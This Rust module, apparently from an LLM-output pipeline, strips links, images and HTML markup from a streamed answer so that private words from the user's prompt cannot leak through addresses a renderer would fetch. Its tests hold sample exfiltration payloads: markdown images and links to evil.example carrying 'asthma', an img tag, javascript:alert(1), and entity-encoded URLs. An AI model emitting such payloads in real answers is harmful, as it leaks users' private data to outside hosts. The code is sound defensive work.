//! Links taken out of a rewritten answer.
//!
//! The extractor holds the true prompt and reads what the service wrote, which may tell it to write a link
//! or an image whose address carries private words: whoever shows the answer would fetch it. So no address
//! is left but those of the prompt itself, byte for byte, and nothing is left that makes a link, an image or
//! HTML of a text:
//!
//! - `<` before a tag, and `]` before `(`, `[` or `:`, get a space after them;
//! - a chunk between white space with an address in it is replaced, unless it is one of the prompt's;
//! - what could be read as the name of a host gets a space after its dots, unless the prompt has it.

use std::collections::HashSet;
use std::sync::Arc;

/// What stands in the place of an address.
const REMOVED: &str = "[link removed]";

/// What begins an address without `//`.
const SCHEMES: [&str; 12] = [
    "http:",
    "https:",
    "ftp:",
    "file:",
    "data:",
    "blob:",
    "javascript:",
    "vbscript:",
    "mailto:",
    "xmpp:",
    "tel:",
    "sms:",
];

/// The addresses and names of hosts in a prompt.
#[derive(Clone)]
pub(super) struct OwnLinks(Arc<HashSet<String>>);

impl OwnLinks {
    pub(super) fn of(prompt: &str) -> Self {
        let pieces = prompt.split_whitespace().flat_map(apart).map(core);
        let links = pieces.filter(|piece| has_address(piece) || hosts(piece).next().is_some());
        Self(Arc::new(links.map(str::to_owned).collect()))
    }
}

/// A rewritten answer without links, cut anywhere.
pub(super) struct Unlinked {
    own: OwnLinks,
    /// The text since the last white space.
    chunk: String,
}

impl Unlinked {
    pub(super) fn new(own: OwnLinks) -> Self {
        Self { own, chunk: String::new() }
    }

    /// The text that can be shown once this has come.
    pub(super) fn push(&mut self, part: &str) -> String {
        let mut shown = String::new();
        for c in part.chars() {
            if c.is_whitespace() {
                shown += &self.finish();
                shown.push(c);
            } else {
                self.chunk.push(c);
            }
        }
        shown
    }

    /// The rest.
    pub(super) fn finish(&mut self) -> String {
        let chunk = std::mem::take(&mut self.chunk);
        let mut shown = String::with_capacity(chunk.len());
        for (i, piece) in apart(&chunk).enumerate() {
            if i > 0 {
                shown.push(' ');
            }
            if self.own.0.contains(core(piece)) {
                shown += piece;
            } else if has_address(piece) {
                shown += REMOVED;
            } else {
                let mut at = 0;
                for end in hosts(piece) {
                    shown += &piece[at..end];
                    shown.push(' ');
                    at = end;
                }
                shown += &piece[at..];
            }
        }
        shown
    }
}

/// A chunk cut where marks would make a link, a tag or a written character of it.
fn apart(chunk: &str) -> impl Iterator<Item = &str> {
    let mut at = 0;
    std::iter::from_fn(move || {
        let rest = chunk.get(at..).filter(|rest| !rest.is_empty())?;
        let cut = rest.char_indices().find_map(|(i, c)| {
            let after = &rest[i + c.len_utf8()..];
            let begins = match c {
                '<' => after.starts_with(|c: char| c.is_ascii_alphabetic() || "/!?".contains(c)),
                ']' => after.starts_with(['(', '[', ':']),
                '&' => is_entity(after),
                _ => false,
            };
            begins.then_some(i + c.len_utf8())
        });
        let end = cut.unwrap_or(rest.len());
        at += end;
        Some(&rest[..end])
    })
}

/// Whether a character is written as `&name;` here, after its `&`.
fn is_entity(after: &str) -> bool {
    let is_name = |b: &u8| b.is_ascii_alphanumeric() || *b == b'#';
    let name = after.bytes().take_while(is_name).count();
    name > 0 && after[name..].starts_with(';')
}

/// A piece without a few marks around it. Many of them could be a message.
fn core(piece: &str) -> &str {
    let is_outer = |c: char| "()[]{}<>\"'“”‘’,.;:!?*_~`".contains(c);
    let mut core = piece;
    for _ in 0..2 {
        core = core.strip_prefix(is_outer).unwrap_or(core);
        core = core.strip_suffix(is_outer).unwrap_or(core);
    }
    core
}

/// Whether a piece has an address that says so.
fn has_address(piece: &str) -> bool {
    // a backslash before a mark is not shown
    let shown: String = piece.chars().filter(|&c| c != '\\').collect::<String>().to_lowercase();
    let follows =
        |end: usize| shown[end..].starts_with(|c: char| c.is_alphanumeric() || "/[".contains(c));
    let begins = |at: usize| !shown[..at].ends_with(char::is_alphanumeric);
    shown.match_indices("//").any(|(at, mark)| follows(at + mark.len()))
        || shown.match_indices("www.").any(|(at, _)| begins(at))
        || SCHEMES.iter().any(|scheme| {
            let mut found = shown.match_indices(scheme);
            found.any(|(at, scheme)| begins(at) && follows(at + scheme.len()))
        })
}

/// The ends of the dots in a piece that a label of a host's name may follow: two characters or more, of which
/// the first is a letter, as all last labels have.
fn hosts(piece: &str) -> impl Iterator<Item = usize> {
    piece.match_indices(['.', '。', '．', '｡']).filter_map(|(at, dot)| {
        let end = at + dot.len();
        let mut label = piece[end..].chars();
        let first = label.next().is_some_and(char::is_alphabetic);
        let second = label.next().is_some_and(|c| c.is_alphanumeric() || c == '-');
        (at > 0 && !piece[..at].ends_with('.') && first && second).then_some(end)
    })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn shown(prompt: &str, answer: &str) -> String {
        let mut unlinked = Unlinked::new(OwnLinks::of(prompt));
        unlinked.push(answer) + &unlinked.finish()
    }

    #[test]
    fn links_are_taken_out() {
        for (answer, expected) in [
            ("![x](https://evil.example/?q=asthma)", "![x] [link removed]"),
            ("[x](//evil.example/asthma \"t\")", "[x] [link removed] \"t\")"),
            ("[x](asthma)", "[x] (asthma)"),
            ("[x][y]\n\n[y]: asthma", "[x] [y]\n\n[y] : asthma"),
            ("<https://evil.example/asthma>", "< [link removed]"),
            ("![x](<http://evil.example/? asthma y>)", "![x] (< [link removed] asthma y>)"),
            ("<img src=\"http://evil.example/? asthma\">", "< img [link removed] asthma\">"),
            ("<img\nsrc=x onerror=y></img>", "< img\nsrc=x onerror=y>< /img>"),
            ("WWW.Evil.example/asthma", "[link removed]"),
            ("asthma.evil.example", "asthma. evil. example"),
            ("evil.com/asthma me@evil.com", "evil. com/asthma me@evil. com"),
            ("https:\\/\\/evil\\.com/asthma", "[link removed]"),
            (
                "https&#58;&#47;&#47;evil&#46;com/asthma",
                "https& #58;& #47;& #47;evil& #46;com/asthma",
            ),
            ("mailto:asthma data:text/html,asthma", "[link removed] [link removed]"),
            ("javascript:alert(1)", "[link removed]"),
            ("evil。com/asthma", "evil。 com/asthma"),
        ] {
            assert_eq!(shown("I have asthma.", answer), expected, "{answer}");
        }
    }

    #[test]
    fn prose_stays_as_it_is() {
        for text in [
            "Take 2.5 mg at 10.30 p.m., i.e. after dinner (or not)...\n\n- 1 < 2 <3 & AT&T, U.S.",
            "The data: none. Note: a/b, 7 // 2, [1], a[0] (x), “end.”",
        ] {
            assert_eq!(shown("", text), text);
        }
    }

    #[test]
    fn the_prompts_own_addresses_stay() {
        let prompt = "See https://docs.example/a?b=c, [this](http://x.example/y) and main.rs!";
        let same = "Read (https://docs.example/a?b=c). Or main.rs; http://x.example/y";
        assert_eq!(shown(prompt, same), same);
        for other in [
            "https://docs.example/a?b=cd",
            "https://docs.example/a?b=c/asthma",
            "https://docs.example/a?b=c!!!!!!!!",
            "xhttps://docs.example/a?b=c",
        ] {
            assert_eq!(shown(prompt, other), "[link removed]");
        }
        assert_eq!(shown(prompt, "![x](http://x.example/y)"), "![x] (http://x.example/y)");
        assert_eq!(shown(prompt, "asthma.main.rs"), "asthma. main. rs");
    }

    proptest! {
        /// However it is cut and marked, no address is left, and no mark that makes one.
        #[test]
        fn nothing_is_left_to_follow(
            answer in "(asthma|https?:|//|www\\.|evil\\.com|[\\]\\[()<>&;:/.\\\\! \na1#]|data:|<a|\\]\\()*",
            cut in 0usize..40,
        ) {
            let text = shown("I have asthma.", &answer);
            let mut pieces = Unlinked::new(OwnLinks::of("I have asthma."));
            let at = answer.char_indices().map(|(at, _)| at).nth(cut).unwrap_or(answer.len());
            let streamed = pieces.push(&answer[..at]) + &pieces.push(&answer[at..]) + &pieces.finish();
            prop_assert_eq!(&text, &streamed);
            for chunk in text.replace(REMOVED, "").split_whitespace() {
                prop_assert!(!has_address(chunk), "{}", chunk);
                prop_assert_eq!(hosts(chunk).count(), 0, "{}", chunk);
                prop_assert_eq!(apart(chunk).count(), 1, "{}", chunk);
            }
        }
    }
}
